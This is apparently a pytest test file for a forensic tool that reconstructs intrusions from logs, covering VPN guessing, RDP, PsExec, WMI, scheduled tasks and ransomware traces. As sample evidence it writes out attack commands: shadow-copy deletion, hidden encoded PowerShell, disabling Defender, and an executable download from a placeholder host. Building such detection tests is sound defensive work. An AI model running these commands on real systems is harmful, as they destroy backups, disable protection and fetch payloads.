"""How compromise travels, and what must not carry it."""

from __future__ import annotations

import pytest

from hikeshi.model.evidence import RecordRef


def steps(story):
    return [(s.source, s.destination, s.account, s.method) for s in story.spread]


def hosts(story):
    return {h.name for h in story.compromised_hosts}


def accounts(story):
    return {a.name for a in story.compromised_accounts}


@pytest.fixture
def broken_into(scene):
    """t.mori's VPN password is guessed; by night the intruder sits on SRV1 and dumps credentials."""
    for day in range(1, 6):
        scene.vpn(f"2026-06-0{day} 09:10:00", "t.mori", "192.0.2.50", "10.212.134.9", f"2026-06-0{day} 17:00:00")
    for second in range(10, 34, 2):
        scene.vpn_failure(f"2026-06-08 01:00:{second}", "t.mori", "203.0.113.7")
    scene.vpn("2026-06-08 01:02:00", "t.mori", "203.0.113.7", "10.212.134.20")
    scene.rdp("SRV1", "2026-06-08 01:05:00", "t.mori", "10.212.134.20", "0xabc")
    scene.dump("SRV1", "2026-06-08 01:20:00")
    return scene


def test_the_way_in_and_the_first_machine_are_told(broken_into):
    story = broken_into.story()
    best = story.entry_candidates[0]
    assert (best.kind, best.source, best.account, best.host) == ("vpn_credential", "203.0.113.7", "t.mori", "SRV1")
    assert best.confidence == "high" and best.records
    assert steps(story) == [("10.212.134.20", "SRV1", "t.mori", "rdp")]
    assert hosts(story) == {"SRV1"} and accounts(story) == {"t.mori"}


def test_psexec_with_stolen_credentials_is_one_edge_with_all_its_records(broken_into):
    broken_into.explicit("SRV1", "SRV2", "2026-06-08 01:30:00", "t.mori", "adm")
    broken_into.psexec("SRV1", "SRV2", "2026-06-08 01:30:02", "adm")
    story = broken_into.story()
    (edge,) = [s for s in story.spread if s.destination == "SRV2"]
    assert (edge.source, edge.account, edge.method, edge.confidence) == ("SRV1", "adm", "psexec_service", "high")
    assert {r.path for r in edge.records} == {"SRV1/Security.evtx", "SRV2/Security.evtx", "SRV2/System.evtx"}
    assert "adm" in accounts(story)


def test_without_the_destinations_log_the_source_and_the_service_still_tell(broken_into):
    broken_into.explicit("SRV1", "SRV2", "2026-06-08 01:30:00", "t.mori", "adm")
    broken_into.service("SRV2", "2026-06-08 01:30:03", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    assert ("SRV1", "SRV2", "adm", "psexec_service") in steps(broken_into.story())


def test_wmi_and_winrm_are_told_by_the_parent_of_what_ran(broken_into):
    broken_into.explicit("SRV1", "PC1", "2026-06-08 02:00:00", "t.mori", "adm", "C:\\Windows\\System32\\wbem\\WMIC.exe")
    broken_into.logon("PC1", "2026-06-08 02:00:01", "adm", "SRV1")
    broken_into.program(
        "PC1",
        "2026-06-08 02:00:02",
        "adm",
        "C:\\Windows\\System32\\cmd.exe",
        "cmd /c whoami",
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
    )
    broken_into.logon("PC2", "2026-06-08 02:10:01", "adm", "SRV1")
    broken_into.program(
        "PC2",
        "2026-06-08 02:10:03",
        "adm",
        "C:\\Windows\\System32\\cmd.exe",
        "cmd /c dir",
        "C:\\Windows\\System32\\wsmprovhost.exe",
    )
    found = steps(broken_into.story())
    assert ("SRV1", "PC1", "adm", "wmi") in found and ("SRV1", "PC2", "adm", "winrm") in found


def test_a_remote_task_needs_its_registration_by_the_same_account(broken_into):
    broken_into.logon("SRV2", "2026-06-08 02:00:00", "t.mori", "SRV1")
    broken_into.windows(
        "SRV2",
        "2026-06-08 02:00:02",
        4698,
        SubjectUserName="t.mori",
        TaskName="\\upd",
        TaskContent="<Exec><Command>C:\\Windows\\Temp\\a.exe</Command></Exec>",
    )
    assert ("SRV1", "SRV2", "t.mori", "scheduled_task") in steps(broken_into.story())


def test_a_bare_network_logon_touches_but_does_not_compromise(broken_into):
    broken_into.logon("SRV2", "2026-06-08 02:00:00", "t.mori", "SRV1")
    story = broken_into.story()
    assert hosts(story) == {"SRV1"}
    assert [h.name for h in story.touched_hosts] == ["SRV2"]


def test_the_administrators_habit_from_the_jump_host_is_not_the_attack(broken_into):
    for day in (2, 3, 4, 5, 8):
        broken_into.rdp("SRV1", f"2026-06-0{day} 10:00:00", "adm", "JUMP1")
        broken_into.rdp("SRV2", f"2026-06-0{day} 11:00:00", "adm", "JUMP1")
    story = broken_into.story()
    assert hosts(story) == {"SRV1"} and accounts(story) == {"t.mori"}
    assert all(s.source != "JUMP1" for s in story.spread)


def test_the_same_desktop_session_from_a_held_machine_is_the_attack(broken_into):
    broken_into.rdp("SRV2", "2026-06-08 02:00:00", "adm", "SRV1")
    assert ("SRV1", "SRV2", "adm", "rdp") in steps(broken_into.story())


def test_a_habit_out_of_a_held_machine_is_explained(broken_into):
    for day in (3, 4, 5, 8):
        broken_into.logon("SRV2", f"2026-06-0{day} 04:00:00", "svc_app", "SRV1")
    story = broken_into.story()
    assert "svc_app" not in accounts(story) and not story.touched_hosts
    assert any("svc_app" in r.subject for r in story.explained)


def test_backup_jobs_at_night_are_no_psexec(scene):
    for day in range(2, 9):
        for server in ("SRV1", "SRV2", "DC1"):
            scene.logon(server, f"2026-06-0{day} 02:00:00", "svc_backup", "BACKUP1")
            scene.service(server, f"2026-06-0{day} 02:00:05", "BackupAgent", "C:\\Program Files\\Backup\\agent.exe")
    story = scene.story()
    assert not story.spread and not story.compromised_hosts and not story.compromised_accounts


def test_an_administrators_psexec_in_thin_evidence_is_only_doubtful(scene):
    scene.psexec("JUMP1", "SRV1", "2026-06-08 10:00:00", "adm")
    story = scene.story()
    assert [(s.method, s.confidence) for s in story.spread if s.method == "psexec_service"] == [
        ("psexec_service", "low")
    ]
    assert not story.compromised_hosts and not story.compromised_accounts
    assert any(r.subject == "SRV1" for r in story.unexplained)


def test_machine_accounts_never_count_as_compromised(broken_into):
    broken_into.logon("DC1", "2026-06-08 01:40:00", "SRV1$", "SRV1")
    assert accounts(broken_into.story()) == {"t.mori"}


def test_a_strong_signal_is_followed_back_to_the_session_behind_it(scene):
    scene.rdp("SRV1", "2026-06-08 03:00:00", "ops", "203.0.113.99", "0xf00")
    scene.dump("SRV1", "2026-06-08 03:10:00", "ops", "0xf00")
    story = scene.story()
    assert steps(story) == [("203.0.113.99", "SRV1", "ops", "rdp")]
    assert (story.entry_candidates[0].kind, story.entry_candidates[0].source) == ("exposed_rdp", "203.0.113.99")


def test_ssh_guessing_from_a_held_machine_is_spread_and_a_plain_logon_is_not(broken_into):
    for second in range(10, 22):
        broken_into.line(
            "auth.log",
            f"2026-06-08 03:00:{second}",
            **{
                "event.dataset": "linux.sshd",
                "host.name": "LNX1",
                "event.category": "authentication",
                "event.outcome": "failure",
                "user.name": "root",
                "source.ip": "10.1.0.11",
            },
        )
    for account, time, source in (("ops", "03:01:00", "10.1.0.11"), ("ops", "03:05:00", "10.1.0.41")):
        broken_into.line(
            "auth.log",
            f"2026-06-08 {time}",
            **{
                "event.dataset": "linux.sshd",
                "host.name": "LNX1",
                "event.category": "authentication",
                "event.outcome": "success",
                "user.name": account,
                "source.ip": source,
            },
        )
    story = broken_into.story()
    assert [s for s in steps(story) if s[3] == "ssh"] == [("SRV1", "LNX1", "ops", "ssh")]
    assert {a.name: a.kind for a in story.compromised_accounts}["ops"] == "local"


def test_an_account_made_by_the_attacker_is_held_and_one_made_elsewhere_is_not(broken_into):
    broken_into.windows(
        "SRV1", "2026-06-08 01:40:00", 4720, TargetUserName="help1", TargetDomainName="SRV1", SubjectUserName="t.mori"
    )
    broken_into.windows(
        "SRV2", "2026-06-08 01:40:00", 4720, TargetUserName="new.staff", TargetDomainName="CORP", SubjectUserName="adm"
    )
    story = broken_into.story()
    assert accounts(story) == {"t.mori", "help1"}
    assert [(p.host, p.kind, p.name) for p in story.persistence] == [("SRV1", "account", "help1")]


def test_a_command_aimed_at_another_machine_counts_there(broken_into):
    broken_into.program(
        "SRV1",
        "2026-06-08 01:30:00",
        "t.mori",
        "C:\\PerfLogs\\PsExec.exe",
        "PsExec.exe \\\\SRV2 -s cmd /c vssadmin delete shadows /all",
        logon_id="0xabc",
    )
    broken_into.service("SRV2", "2026-06-08 01:30:02", "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")
    story = broken_into.story()
    (target,) = [h for h in story.compromised_hosts if h.name == "SRV2"]
    assert any("backup copies" in r.en for r in target.reasons)


def test_the_domain_controllers_fall_asks_for_krbtgt(broken_into):
    broken_into.windows(
        "DC1", "2026-06-07 10:00:00", 4768, TargetUserName="t.mori", IpAddress="::ffff:10.1.9.1", Status="0x0"
    )
    broken_into.psexec("SRV1", "DC1", "2026-06-08 02:00:00", "t.mori")
    story = broken_into.story()
    assert "krbtgt" in {a.name for a in story.accounts_to_reset}
    assert "krbtgt" not in accounts(story)


def test_everything_told_cites_records(broken_into):
    broken_into.psexec("SRV1", "SRV2", "2026-06-08 02:00:00", "t.mori")
    broken_into.service(
        "SRV2", "2026-06-08 02:01:00", "AnyDesk Service", '"C:\\Program Files\\AnyDesk\\AnyDesk.exe" --service'
    )
    story = broken_into.story()
    for name in (
        "entry_candidates",
        "compromised_hosts",
        "compromised_accounts",
        "accounts_to_reset",
        "spread",
        "persistence",
        "timeline",
        "block_list",
        "isolate",
        "bypass_paths",
    ):
        entries = getattr(story, name)
        assert entries, name
        assert all(e.records for e in entries), name


@pytest.fixture
def opened(scene):
    """On PC1 a document started a command; nobody stole credentials."""
    scene.program(
        "PC1",
        "2026-06-08 10:00:00",
        "y.mori",
        "C:\\Windows\\System32\\cmd.exe",
        "cmd /c x",
        "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
    )
    return scene


def test_the_victims_own_file_server_is_explained_not_touched(opened):
    opened.logon("SRV2", "2026-06-07 09:00:00", "y.mori", "PC1")
    opened.logon("SRV1", "2026-06-08 11:00:00", "y.mori", "PC1")
    story = opened.story()
    assert not story.touched_hosts and hosts(story) == {"PC1"}
    assert any("y.mori: PC1" in r.subject for r in story.explained)


def test_an_ssh_logon_without_guessing_from_a_held_machine_is_not_spread(opened):
    opened.line(
        "auth.log",
        "2026-06-08 11:00:00",
        **{
            "event.dataset": "linux.sshd",
            "host.name": "LNX1",
            "event.category": "authentication",
            "event.outcome": "success",
            "user.name": "dev",
            "source.ip": "10.1.9.1",
        },
    )
    story = opened.story()
    assert not story.spread and "dev" not in accounts(story)


def test_a_dump_by_the_machine_itself_blames_no_account(scene):
    scene.dump("SRV1", "2026-06-08 01:20:00", "SRV1$")
    story = scene.story()
    assert hosts(story) == {"SRV1"} and not story.compromised_accounts
    assert any("no record shows from where" in r.reason.en for r in story.unexplained)


def test_a_usual_service_installed_by_somebody_else_is_no_persistence(broken_into):
    broken_into.windows(
        "SRV1",
        "2026-06-08 01:30:00",
        4697,
        SubjectUserName="adm.ito",
        ServiceName="BackupAgent",
        ServiceFileName="C:\\Program Files\\Backup\\agent.exe",
    )
    broken_into.windows(
        "SRV1",
        "2026-06-08 01:31:00",
        4697,
        SubjectUserName="t.mori",
        ServiceName="SyncHelper",
        ServiceFileName="C:\\Program Files\\Sync\\s.exe",
    )
    assert [(p.kind, p.name) for p in broken_into.story().persistence] == [("service", "SyncHelper")]


def encrypted(path, host):
    return (host, RecordRef(path, "1" * 64), None)


def test_encrypted_files_belong_to_the_machine_whose_folder_they_lie_in(broken_into):
    story = broken_into.story(
        encrypted=[
            encrypted("SRV2/files/!!!README!!!.txt", None),
            encrypted("case7/pc1/a.docx.locked", "case7"),
            encrypted("samples/b.docx.locked", "samples"),
        ]
    )
    assert {h.name for h in story.encrypted_hosts} == {"SRV2", "PC1"}
    assert hosts(story) == {"SRV1", "SRV2", "PC1"}
    (remark,) = [r for r in story.unexplained if "encrypted files" in r.reason.en]
    assert [r.path for r in remark.records] == ["samples/b.docx.locked"]


def test_work_as_the_system_is_traced_to_the_held_account_that_sat_there(scene):
    scene.rdp("SRV1", "2026-06-08 00:40:00", "t.mori", "10.212.134.61")
    scene.rdp("SRV1", "2026-06-08 00:45:00", "k.abe", "PC3")
    scene.dump("SRV1", "2026-06-08 01:20:00")
    scene.program(
        "SRV1",
        "2026-06-08 01:30:00",
        "t.mori",
        "C:\\PerfLogs\\PsExec.exe",
        "PsExec.exe \\\\SRV2 -s cmd /c vssadmin delete shadows /all",
        logon_id="0x5",
    )
    story = scene.story()
    assert ("10.212.134.61", "SRV1", "t.mori", "unknown") not in steps(story)
    assert ("10.212.134.61", "SRV1", "t.mori", "rdp") in steps(story)
    assert "k.abe" not in accounts(story) and "PC3" not in hosts(story)



_POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
_MIDDLING = ("powershell -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA",
             "powershell Set-MpPreference -DisableRealtimeMonitoring $true", "powershell iwr http://cdn.example/a.exe -o a.exe")


@pytest.mark.parametrize(("accounts", "held"), [
    (["y.mori", "y.mori", "y.mori"], ["PC1"]), (["y.mori", "SYSTEM", "y.mori"], ["PC1"]),
    (["y.mori", "adm-a", "y.mori"], []), (["y.mori", "adm-a", "adm-b"], []),
])
def test_what_several_people_did_on_one_machine_does_not_add_up(scene, accounts, held):
    """Three kinds of middling marks within hours: one person's are an attack, two persons' are two jobs."""
    for minute, (account, command) in enumerate(zip(accounts, _MIDDLING, strict=True)):
        scene.program("PC1", f"2026-06-08 14:{minute:02d}:00", account, _POWERSHELL, command, logon_id=f"0x{minute + 7}")
    assert [h.name for h in scene.story().compromised_hosts] == held
